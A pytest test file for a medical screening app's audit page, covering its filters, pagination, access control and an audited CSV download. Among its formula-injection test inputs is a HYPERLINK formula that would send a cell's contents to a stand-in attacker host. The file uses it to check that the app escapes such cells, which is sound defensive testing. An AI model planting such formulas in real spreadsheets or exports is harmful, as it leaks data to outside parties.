"""The audit page in words (who, what, which patient, when, from where), its filters, and
its CSV download (same filters, formula-injection safe, itself audited)."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from screening.doctor import audit as audit_service
from screening.doctor import audit_words as words
from screening.doctor.audit_words import Names, describe, safe_cell
from screening.doctor.decisions import DECISIONS
from screening.models import AuditEvent, Invitation, QuestionnaireResponse
from screening.operations.retention import ref_digest
from tests.doctor_fixtures import statements_during

PACKAGE = Path(__file__).resolve().parents[2] / "screening"

# --- every action the code writes has words ------------------------------------------------

# Where the audit writers take the action name: positional index, or the `action=` keyword.
WRITERS = {"record_audit": 2, "audit": 1, "audit_access": 0, "record_failure": 1}
# Action names the code builds with an f-string, and every value the placeholder takes.
DYNAMIC_ACTIONS = {
    "flag.{}": DECISIONS,  # decision_views.decide: the DecisionForm's choices
    "doctor.{}_changed": ("role", "active"),  # admin_views._account_change
    "invitation.{}d": ("revoke", "reissue"),  # invitation_views._invitation_action
}
# Writers that pass their own `action` parameter through (their callers are walked instead).
PASS_THROUGH = {"audit", "audit_access", "record_failure"}


def _calls():  # type: ignore[no-untyped-def]
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        functions = {id(inner): node.name for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)
                     for inner in ast.walk(node)}
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
                if name in WRITERS:
                    yield path, functions.get(id(node)), name, node


def _action_argument(name: str, call: ast.Call) -> ast.expr | None:
    keyword = next((k.value for k in call.keywords if k.arg == "action"), None)
    index = WRITERS[name]
    return keyword or (call.args[index] if len(call.args) > index else None)


def _actions_of(path: Path, function: str | None, name: str, call: ast.Call) -> list[str]:
    """The action names one writer call can write ("" for a pass-through of `action`)."""
    argument = _action_argument(name, call)
    where = f"{path.relative_to(PACKAGE)}:{call.lineno}"
    if isinstance(argument, ast.Constant) and isinstance(argument.value, str):
        return [argument.value]
    if isinstance(argument, ast.JoinedStr):
        template = "".join(part.value if isinstance(part, ast.Constant) else "{}" for part in argument.values)
        assert template in DYNAMIC_ACTIONS, f"{where}: list the values of {template!r} in DYNAMIC_ACTIONS"
        return [template.format(value) for value in DYNAMIC_ACTIONS[template]]
    assert isinstance(argument, ast.Name) and argument.id == "action" and function in PASS_THROUGH, (
        f"{where}: an action name the test cannot read; pass a literal")
    return [""]


def written_actions() -> set[str]:
    """Every action name the code base passes to an audit writer."""
    return {action for call in _calls() for action in _actions_of(*call) if action}


def written_detail_keys() -> set[tuple[str, str]]:
    """(action, key) for every detail keyword passed to an audit writer (action "" when passed through)."""
    reserved = {"action", "target", "remote_addr", "actor"}
    return {(action, keyword.arg) for call in _calls() for action in _actions_of(*call)
            for keyword in call[3].keywords if keyword.arg and keyword.arg not in reserved}


def test_the_walk_finds_the_actions_it_should():
    found = written_actions()
    assert {"summary.viewed", "flag.accepted", "flag.overridden", "doctor.login_failed", "invitation.reissued",
            "doctor.active_changed", "audit.exported", "data.purged"} <= found


@pytest.mark.parametrize("action", sorted(written_actions()))
def test_every_action_the_code_writes_has_words(action):
    assert words.ACTION_WORDS.get(action, "").strip(), f"add {action!r} to ACTION_WORDS in audit_words.py"


@pytest.mark.parametrize(("action", "key"), sorted(written_detail_keys()))
def test_every_detail_the_code_writes_has_a_label(action, key):
    assert key in words.DETAIL_LABELS or (action, key) in words.ACTION_DETAIL_LABELS


# --- the words of one event ------------------------------------------------------------------

NAMES = Names(doctors={1: "dr.who@clinic.example", 2: "second@clinic.example"}, responses={6: "PT-6"},
              invitations={3: "PT-3"}, fingerprints={ref_digest("PT-9"): "PT-9"})
AT = datetime(2025, 3, 1, 9, 30, 5, tzinfo=UTC)


def _row(actor="doctor:1", action="summary.viewed", target=None, details=None, names=NAMES):  # type: ignore[no-untyped-def]
    return describe(AT, actor, action, target, None, details, names)


@pytest.mark.parametrize(("actor", "who"), [
    ("doctor:1", "dr.who@clinic.example"),
    ("doctor:77", "Doctor #77 (account removed)"),
    ("patient:6", "Patient"),
    ("cli", "Command line"),
    ("system", "System (scheduled task)"),
    ("anonymous", "Someone not signed in"),
])
def test_who_is_said_in_words(actor, who):
    assert _row(actor=actor).who == who


@pytest.mark.parametrize(("target", "patient"), [
    ("response:6", "PT-6"),
    ("invitation:3", "PT-3"),
    ("response:999", words.PATIENT_GONE),
    (f"patient_ref_sha256:{ref_digest('PT-9')}", "PT-9"),
    (f"patient_ref_sha256:{ref_digest('PT-0')}", words.PATIENT_FINGERPRINT),
    ("doctor:1", ""),
    (None, ""),
])
def test_the_patient_is_their_reference(target, patient):
    assert _row(target=target).patient == patient


@pytest.mark.parametrize(("action", "target", "details", "text"), [
    ("flag.accepted", "response:6", {"rule_id": "REN-01", "reason_code": None}, "Rule: REN-01 – "),
    ("flag.overridden", "response:6", {"reason_code": "known_and_managed"}, "Reason: Already known and being managed"),
    ("flag.accepted", "response:6", {"rule_id": "XYZ-99"}, "Rule: XYZ-99"),
    ("summary.exported", "response:6", {"format": "pdf"}, "Format: PDF"),
    ("doctor.login", "doctor:1", {"second_factor": "totp"}, "Second factor: Authenticator app code"),
    ("doctor.login_failed", "doctor:1", {"account_exists": True}, "Account exists: Yes"),
    ("doctor.role_changed", "doctor:77", {"value": "admin"}, "Account: Doctor #77 (account removed); New role: Admin"),
    ("doctor.active_changed", "doctor:2", {"value": False}, "Account: second@clinic.example; Active: No"),
    ("doctor.password_changed", "doctor:1", {}, ""),  # their own account: not said twice
    ("data.purged", None, {"unsubmitted": 2}, "Unsubmitted questionnaires removed: 2"),
    ("audit.exported", None, {"rows": 5, "filter_doctor": 1, "filter_action": "flag.accepted"},
     "Rows: 5; Filtered by doctor: dr.who@clinic.example; Filtered by action: Accepted flag"),
])
def test_details_are_said_in_words(action, target, details, text):
    shown = _row(action=action, target=target, details=details).details_text
    assert shown.startswith(text) if text else shown == ""


def test_none_values_are_left_out_and_keys_never_shown():
    row = _row(action="flag.accepted", target="response:6", details={"reason_code": None, "rule_id": "REN-01"})
    assert not any(raw in row.details_text for raw in ("None", "reason_code", "rule_id"))
    assert row.what == "Accepted flag"
    assert row.when == "2025-03-01 09:30:05 UTC" and row.when_iso == "2025-03-01T09:30:05Z"


# --- the page, on a real database ----------------------------------------------------------


def test_the_page_names_people_and_patients_and_never_shows_none(doctor, submit):
    response_id = submit("PT-AUD", {"kidney_disease": "severe"})
    doctor.get(f"/doctor/submissions/{response_id}")
    doctor.post(f"/doctor/submissions/{response_id}/flags/REN-01", {"decision": "accepted", "version": "0"})
    html = doctor.get("/doctor/audit").get_data(as_text=True)
    for shown in ("dr.who@clinic.example", "PT-AUD", "Opened summary", "Accepted flag", "Signed in", "UTC"):
        assert shown in html, shown
    for hidden in ("doctor:1", f"response:{response_id}", "None", "reason_code", "summary.viewed</td>"):
        assert hidden not in html, hidden


def _add(app, actor, action, target, address, at, **details):  # type: ignore[no-untyped-def]
    with app.extensions["db"].write() as session:
        session.add(AuditEvent(actor=actor, action=action, target=target, remote_addr=address, at=at, details=details))


@pytest.fixture
def trail(app, doctor, make_doctor, submit, make_link):  # type: ignore[no-untyped-def]
    """Four marked events (their address says which) by two doctors on two patients."""
    second = make_doctor("second@clinic.example", role="clinician")
    response_a = submit("PT-A")
    make_link("PT-B")
    with app.extensions["db"].read() as session:
        invitation_b = session.scalar(select(Invitation.id).where(Invitation.patient_ref == "PT-B"))
    _add(app, "doctor:1", "summary.viewed", f"response:{response_a}", "10.0.0.1", datetime(2025, 1, 10, tzinfo=UTC))
    _add(app, f"doctor:{second}", "summary.viewed", f"response:{response_a}", "10.0.0.2",
         datetime(2025, 2, 10, tzinfo=UTC))
    _add(app, f"doctor:{second}", "invitation.revoked", f"invitation:{invitation_b}", "10.0.0.3",
         datetime(2025, 3, 10, tzinfo=UTC))
    _add(app, "doctor:1", "patient.exported", f"patient_ref_sha256:{ref_digest('PT-A')}", "10.0.0.4",
         datetime(2025, 3, 20, tzinfo=UTC), invitations=1)
    return doctor


def _marks(text: str) -> set[int]:
    return {int(n) for n in re.findall(r"10\.0\.0\.(\d)", text)}


FILTERS = [
    ("", {1, 2, 3, 4}),
    ("doctor=2", {2, 3}),
    ("patient=PT-A", {1, 2, 4}),
    ("patient=PT-B", {3}),
    ("patient=PT-NOBODY", set()),
    ("action=summary.viewed", {1, 2}),
    ("from=2025-02-01&to=2025-03-15", {2, 3}),
    ("from=2025-03-20", {4}),
    ("doctor=1&patient=PT-A", {1, 4}),
]


@pytest.mark.parametrize(("query", "marks"), FILTERS)
def test_each_filter_narrows_the_page(trail, query, marks):
    response = trail.get(f"/doctor/audit?{query}")
    assert response.status_code == 200
    assert _marks(response.get_data(as_text=True)) == marks


@pytest.mark.parametrize(("query", "marks"), FILTERS)
def test_the_csv_has_the_same_rows_as_the_page(trail, query, marks):
    rows = _csv(trail.get(f"/doctor/audit.csv?{query}"))
    assert _marks("\n".join(row[4] for row in rows[1:])) == marks


def test_the_filters_show_words_and_keep_what_was_chosen(trail):
    html = trail.get("/doctor/audit?doctor=2&action=invitation.revoked&patient=PT-B").get_data(as_text=True)
    assert '<option value="2" selected>second@clinic.example</option>' in html
    assert '<option value="invitation.revoked" selected>Revoked invitation</option>' in html
    assert 'name="patient" type="search" maxlength="64" value="PT-B"' in html
    assert "PT-B" in html and "Revoked invitation" in html


def test_the_patient_filter_names_a_fingerprinted_event(trail):
    assert "PT-A" not in _csv(trail.get("/doctor/audit.csv?action=patient.exported"))[1][3]
    assert _csv(trail.get("/doctor/audit.csv?action=patient.exported&patient=PT-A"))[1][3] == "PT-A"


@pytest.mark.parametrize(("query", "entered", "message"), [
    ("from=2025-13-01", "2025-13-01", "Enter the ‘From’ date as a real date"),
    ("to=31%2F12%2F2025", "31/12/2025", "Enter the ‘To’ date as a real date"),
    ("to=20250101", "20250101", "Enter the ‘To’ date as a real date"),
    ("from=1800-01-01", "1800-01-01", "between 1900 and 2199"),
    ("from=2025-03-02&to=2025-03-01", "2025-03-02", "must be the same as or after the ‘From’ date"),
])
def test_a_wrong_date_is_explained_and_kept(trail, query, entered, message):
    response = trail.get(f"/doctor/audit?{query}")
    html = response.get_data(as_text=True)
    assert response.status_code == 400
    assert message in html and "There is a problem" in html
    assert f'value="{entered}"' in html
    assert "Download CSV" not in html


def test_a_csv_with_a_wrong_date_goes_back_to_the_page(trail):
    response = trail.get("/doctor/audit.csv?from=2025-13-01&patient=PT-A")
    assert response.status_code == 302
    assert response.headers["Location"] == "/doctor/audit?patient=PT-A&from=2025-13-01"


def test_pagination_keeps_the_filters(app, doctor):
    for n in range(audit_service.AUDIT_PAGE_SIZE + 1):
        _add(app, "doctor:1", "summary.viewed", None, f"10.1.{n // 250}.{n % 250}", datetime(2025, 1, 1, tzinfo=UTC))
    html = doctor.get("/doctor/audit?action=summary.viewed&endpoint=x").get_data(as_text=True)
    (next_link,) = re.findall(r'href="(/doctor/audit\?[^"]*page=2[^"]*)"', html)
    assert "action=summary.viewed" in next_link and "endpoint" not in next_link
    second = doctor.get(next_link.replace("&amp;", "&")).get_data(as_text=True)
    assert second.count("Opened summary</td>") == 1


def test_names_are_looked_up_in_bulk_not_per_row(app, doctor, make_doctor, submit):
    def page_statements() -> int:
        return len(statements_during(app, lambda: doctor.get("/doctor/audit")))

    response_id = submit("PT-0")
    _add(app, "doctor:1", "summary.viewed", f"response:{response_id}", None, datetime(2025, 1, 1, tzinfo=UTC))
    _add(app, "doctor:1", "invitation.created", "invitation:1", None, datetime(2025, 1, 1, tzinfo=UTC))
    few = page_statements()
    for n in range(1, 20):
        other = make_doctor(f"doctor{n}@clinic.example")
        response_id = submit(f"PT-{n}")
        _add(app, f"doctor:{other}", "summary.viewed", f"response:{response_id}", None,
             datetime(2025, 1, 1, tzinfo=UTC))
        _add(app, f"doctor:{other}", "invitation.created", f"invitation:{n}", None, datetime(2025, 1, 1, tzinfo=UTC))
    assert page_statements() == few


# --- the CSV download ----------------------------------------------------------------------


def _csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def test_the_csv_is_an_attachment_in_words(trail):
    response = trail.get("/doctor/audit.csv?patient=PT-B")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert re.fullmatch(r'attachment; filename="audit-trail-\d{4}-\d{2}-\d{2}T\d{6}Z\.csv"',
                        response.headers["Content-Disposition"])
    header, row = _csv(response)
    assert header == ["When (UTC)", "Who", "What", "Patient", "From", "Details"]
    assert row == ["2025-03-10T00:00:00Z", "second@clinic.example", "Revoked invitation", "PT-B", "10.0.0.3", ""]


def test_the_download_link_carries_the_filters(trail):
    html = trail.get("/doctor/audit?doctor=2&patient=PT-A&endpoint=x").get_data(as_text=True)
    (link,) = re.findall(r'href="(/doctor/audit\.csv[^"]*)"', html)
    assert "doctor=2" in link and "patient=PT-A" in link and "endpoint" not in link
    assert _marks(str(_csv(trail.get(link.replace("&amp;", "&"))))) == {2}


def test_the_download_is_audited_without_the_patient_reference(app, trail):
    _csv(trail.get("/doctor/audit.csv?patient=PT-A&action=summary.viewed&from=2025-01-01"))
    with app.extensions["db"].read() as session:
        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.exported")).one()
    assert event.actor == "doctor:1" and event.target == f"patient_ref_sha256:{ref_digest('PT-A')}"
    assert event.details == {"rows": 2, "filter_action": "summary.viewed", "filter_from": "2025-01-01"}
    assert "PT-A" not in str(event.details)
    page = trail.get("/doctor/audit?action=audit.exported").get_data(as_text=True)
    assert "Downloaded audit CSV" in page and "Rows: 2" in page and "Filtered by action: Opened summary" in page


@pytest.mark.parametrize(("events", "limit", "batch", "data_rows", "cut"), [
    (5, 3, 2, 3, True),
    (5, 3, 10, 3, True),
    (3, 3, 2, 3, False),
    (4, 10, 2, 4, False),
    (4, 10, 4, 4, False),
])
def test_the_csv_is_capped_with_a_note(app, doctor, monkeypatch, events, limit, batch, data_rows, cut):
    monkeypatch.setattr(audit_service, "CSV_MAX_ROWS", limit)
    monkeypatch.setattr(audit_service, "CSV_BATCH", batch)
    for n in range(events):
        _add(app, "cli", "doctor.created", None, f"10.2.0.{n}", datetime(2025, 1, 1, tzinfo=UTC))
    rows = _csv(doctor.get("/doctor/audit.csv?action=doctor.created"))
    data = [row for row in rows[1:] if len(row) == 6]
    assert [row[4] for row in data] == [f"10.2.0.{n}" for n in reversed(range(events))][:data_rows]
    assert (rows[-1][0].startswith("Only the newest")) is cut


# --- formula injection ----------------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(1+1)", "\t=1+2", "\r=1+2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_starts_like_a_formula_is_quoted(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["PT-1", "dr.who@clinic.example", "10.0.0.1", "2025-01-01T00:00:00Z", "", "a=b"])
def test_other_cells_are_left_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_quotes_formulas_in_every_column(app, doctor, make_doctor, make_link, payload):
    """A reference stored before references were checked, an email, an address and a detail."""
    make_link(payload)
    author = make_doctor(payload + "@clinic.example")
    with app.extensions["db"].read() as session:
        invitation = session.scalar(select(Invitation.id).where(Invitation.patient_ref == payload))
    _add(app, f"doctor:{author}", "invitation.created", f"invitation:{invitation}", payload,
         datetime(2025, 1, 1, tzinfo=UTC), reason_code=payload)
    (row,) = _csv(doctor.get("/doctor/audit.csv?action=invitation.created"))[1:]
    assert row[1] == "'" + payload + "@clinic.example"
    assert row[3] == "'" + payload and row[4] == "'" + payload
    assert row[5] == "Reason: " + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not p[0].isspace()])
def test_a_typed_patient_filter_never_reaches_a_cell_unquoted(doctor, payload):
    """The patient filter is free text: the download records only its fingerprint, and a later
    download filtered by the same text names that event with a quoted cell."""
    _csv(doctor.get("/doctor/audit.csv", query_string={"patient": payload}))
    rows = _csv(doctor.get("/doctor/audit.csv", query_string={"patient": payload}))
    assert [row[3] for row in rows[1:]] == ["'" + payload]


# --- who may open it ------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/doctor/audit", "/doctor/audit.csv", "/doctor/audit.csv?patient=PT-A"])
def test_a_clinician_is_refused(app, clinician, path):
    response = clinician.get(path)
    assert response.status_code == 403 and b"When (UTC)" not in response.data
    with app.extensions["db"].read() as session:
        assert not session.scalars(select(AuditEvent).where(AuditEvent.action == "audit.exported")).all()


@pytest.mark.parametrize("path", ["/doctor/audit", "/doctor/audit.csv"])
def test_someone_not_signed_in_is_sent_to_sign_in(client, path):
    response = client.get(path)
    assert response.status_code == 302 and response.headers["Location"].startswith("/doctor/login")


def test_nothing_is_downloaded_unless_the_download_is_audited(doctor, monkeypatch):
    from screening.doctor import common

    def audit_store_down(*_args, **_kwargs):  # type: ignore[no-untyped-def]
        raise RuntimeError("audit store unavailable")

    monkeypatch.setattr(common, "record_audit", audit_store_down)
    response = doctor.get("/doctor/audit.csv")
    assert response.status_code == 500 and "Content-Disposition" not in response.headers


def test_unsubmitted_responses_are_named_by_their_invitation(app, doctor, patient):
    """A started questionnaire has no reference of its own yet: it comes from the invitation."""
    with app.extensions["db"].read() as session:
        response = session.scalars(select(QuestionnaireResponse)).one()
    assert response.patient_ref is None
    rows = _csv(doctor.get("/doctor/audit.csv?action=response.started"))
    assert rows[1][1:4] == ["Patient", "Patient started the questionnaire", "P-001"]
